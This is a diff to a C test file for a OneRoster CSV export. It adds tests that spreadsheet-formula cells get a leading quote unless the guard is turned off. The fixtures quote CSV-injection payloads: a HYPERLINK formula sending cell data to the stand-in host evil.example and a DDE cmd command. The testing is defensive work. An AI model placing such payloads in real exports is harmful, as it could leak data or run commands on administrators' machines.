@@ -3,8 +3,9 @@
  * records into complete OneRoster 1.2 bulk bundles: exact 1.2 headers, every
  * referenced sourcedId present, counts that match the dataset, RFC 4180
  * quoting, atomic publish and rotation, replay gives the same bundle, stale
- * updates and deletes as the bundle shows them, and no civic number, address
- * or phone number in any file. What every sink promises (the state, offsets)
+ * updates and deletes as the bundle shows them, no civic number, address
+ * or phone number in any file, and no cell a spreadsheet would run as a
+ * formula (unless formula_guard: false). What every sink promises (the state, offsets)
  * is in test_sink_contract.c.
  *
  * No OneRoster CSV validator is published on PyPI or npm (searched: only REST
@@ -622,6 +623,96 @@ Test(oneroster_sink, rfc4180_quoting_and_utf8)
     cr_assert_not_null(strstr(text, "Björkängsskolan"));
     free(text);
     free(dir);
+}
+
+/* What a student's cells hold for the formula tests: want[guarded] is the cell written. */
+static const struct {
+    const char *column, *value, *guarded;
+} formula_cells[] = {
+    /* OWASP's payloads: a link that sends the sheet away, a command */
+    {"givenName", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+     "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"},
+    {"familyName", "+SUM(1+1)*cmd|' /C calc'!A0", "'+SUM(1+1)*cmd|' /C calc'!A0"},
+    {"sms", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
+    /* data that only looks like it: as it is */
+    {"phone", "+46 70 123 45 67", "+46 70 123 45 67"},
+    {"middleName", "-42.5", "-42.5"},
+};
+#define N_FORMULA_CELLS (sizeof(formula_cells) / sizeof(formula_cells[0]))
+
+/*
+ * Gives a student (not protected, not quoted_student) the values of
+ * formula_cells, applies the dataset with options, and checks users.csv:
+ * each cell as formula_cells says, guarded or not.
+ */
+static void assert_formula_cells(const char *options, bool guarded)
+{
+    const char *id = NULL;
+    for (size_t i = 0; i < dataset.n && !id; i++) {
+        cJSON *d = dataset.docs[i];
+        if (strcmp(dataset.v[i].entity->collection, "persons") != 0 ||
+            !cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(d, "enrolments")) ||
+            strcmp(str(d, "securityMarking"), "Ingen") != 0 ||
+            strcmp(dataset.v[i].key, quoted_student) == 0)
+            continue;
+        /* users.csv's givenName, familyName and middleName are the person's fields */
+        static const char *const names[] = {"givenName", "familyName", "middleName"};
+        for (size_t k = 0; k < N_FORMULA_CELLS; k++) {
+            for (size_t n = 0; n < 3; n++) {
+                if (strcmp(formula_cells[k].column, names[n]) != 0)
+                    continue;
+                cJSON_DeleteItemFromObjectCaseSensitive(d, names[n]);
+                cJSON_AddStringToObject(d, names[n], formula_cells[k].value);
+            }
+        }
+        cJSON *phones = cJSON_CreateArray();
+        cJSON *phone = cJSON_CreateObject();
+        cJSON_AddStringToObject(phone, "value", "+46 70 123 45 67");
+        cJSON_AddBoolToObject(phone, "mobile", false);
+        cJSON_AddItemToArray(phones, phone);
+        cJSON *mobile = cJSON_CreateObject();
+        cJSON_AddStringToObject(mobile, "value", "@SUM(A1:A9)");
+        cJSON_AddBoolToObject(mobile, "mobile", true);
+        cJSON_AddItemToArray(phones, mobile);
+        cJSON_DeleteItemFromObjectCaseSensitive(d, "phoneNumbers");
+        cJSON_AddItemToObject(d, "phoneNumbers", phones);
+        print_json(&dataset.v[i]);
+        id = dataset.v[i].key;
+    }
+    cr_assert_not_null(id, "no student in the dataset");
+    open_sink(options);
+    apply_all(dataset.v, dataset.n);
+    char *dir = write_now();
+    struct csv users;
+    load_csv(dir, "users.csv", &users);
+    size_t r = 1;
+    while (r < users.n && strcmp(users.rows[r][0], id) != 0)
+        r++;
+    cr_assert_lt(r, users.n, "the student is not in users.csv");
+    for (size_t k = 0; k < N_FORMULA_CELLS; k++) {
+        const char *want = guarded ? formula_cells[k].guarded : formula_cells[k].value;
+        cr_assert_str_eq(users.rows[r][col(&users, formula_cells[k].column)], want, "%s",
+                         formula_cells[k].column);
+    }
+    csv_free(&users);
+    free(dir);
+}
+
+/*
+ * CSV injection: a cell starting with = + - @ is a formula to Excel and
+ * LibreOffice, run when an administrator opens users.csv. Guarded by
+ * default with a leading single quote; phone and negative numbers are data
+ * and stay as they are.
+ */
+Test(oneroster_sink, a_cell_a_spreadsheet_would_run_starts_with_a_quote)
+{
+    assert_formula_cells("include_phone: true\n", true);
+}
+
+/* formula_guard: false, for consumers that need every value exactly. */
+Test(oneroster_sink, formula_guard_false_writes_every_cell_as_it_is)
+{
+    assert_formula_cells("include_phone: true\nformula_guard: false\n", false);
 }
 
 static size_t count_entries(const char *prefix)
